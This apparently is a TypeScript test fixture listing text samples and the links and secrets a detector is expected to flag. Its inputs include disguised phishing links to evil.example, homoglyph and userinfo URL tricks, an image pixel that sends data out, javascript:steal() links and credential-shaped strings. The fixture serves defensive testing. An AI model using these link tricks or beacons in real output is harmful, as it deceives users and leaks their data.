/** Texts for people: where each leads, and the secrets in it. */
import type { Case } from './case.ts';

export const TEXTS: Case[] = [
  { text: 'Hello Bob, the report is ready.', acts: [] },
  { text: 'See https://example.com/report for it.', acts: ['send link https://example.com/report'] },
  { text: 'See [the report](https://example.com/report).', acts: ['send link https://example.com/report'] },
  {
    text: 'Sign in at [https://bank.example](https://evil.example/login).',
    acts: ['send link https://evil.example/login (high)'],
  },
  {
    text: 'Sign in at [bank.example/login](https://bank.example/login).',
    acts: ['send link https://bank.example/login'],
  },
  {
    text: '<a href="https://evil.example">www.bank.example</a>',
    acts: ['send link https://evil.example (high)', 'send link http://www.bank.example'],
  },
  { text: '<p>Read <a href="https://example.com">more</a></p>', acts: ['send link https://example.com'] },
  {
    text: '<https://evil.example/x|https://bank.example>',
    acts: ['send link https://evil.example/x (high)'],
  },
  {
    text: '![pixel](https://evil.example/p.png?d=secret)',
    acts: ['send link https://evil.example/p.png?d=secret (high)'],
  },
  { text: '<img src="https://evil.example/p.png">', acts: ['send link https://evil.example/p.png'] },
  {
    text: '<div style="background: url(https://evil.example/b.png)">x</div>',
    acts: ['send link https://evil.example/b.png'],
  },
  { text: '<a href="javascript:steal()">Click</a>', acts: ['send link javascript:steal() (high)'] },
  { text: '[click](javascript:steal())', acts: ['send link javascript:steal() (high)'] },
  { text: '[ref][1]\n\n[1]: https://example.com/x', acts: ['send link https://example.com/x'] },
  { text: 'Write to bob@example.com.', acts: [] },
  { text: 'Visit www.example.com today.', acts: ['send link http://www.example.com'] },
  { text: 'https://bank.example.evil.example/', acts: ['send link https://bank.example.evil.example/'] },
  {
    text: 'Log in: https://bank.example@evil.example/login',
    acts: ['send link https://bank.example', 'send link https://bank.example@evil.example/login'],
  },
  {
    text: 'Log in: https://bank.example\u3002evil.example/login',
    acts: ['send link https://bank.example', 'send link https://bank.example\u3002evil.example/login'],
  },
  { text: '\u89c1 https://bank.example\u3002\u8c22\u8c22', acts: ['send link https://bank.example'] },
  { text: '[https://bаnk.example](https://bank.example)', acts: ['send link https://bank.example (high)'] },
  {
    text: 'My key is AKIAIOSFODNN7EXAMPLQ and aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEQ',
    acts: ['send (high)'],
  },
  { text: '-----BEGIN RSA PRIVATE KEY-----', acts: ['send (high)'] },
  { text: 'token: ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2', acts: ['send (high)'] },
  { text: 'postgres://app:pa55word@db.example.net/app', acts: ['send (high)'] },
  { text: 'The password is hunter2.', acts: ['share (high)'] },
  { text: 'The password is on the desk.', acts: [] },
  { text: 'Your one-time code from the SMS: 481 920', acts: ['share (high)'] },
  { text: 'Card 4111 1111 1111 1111, 09/28', acts: ['share (high)'] },
  { text: 'Order 4111 1111 1111 1112 is on its way', acts: [] },
  { text: 'Mot de passe : Saule-88', acts: ['share (high)'] },
  { text: '[unclosed](https://example.com', acts: ['send link https://example.com'] },
  { text: 'a\u0000b', unreadable: 'it holds control characters' },
];
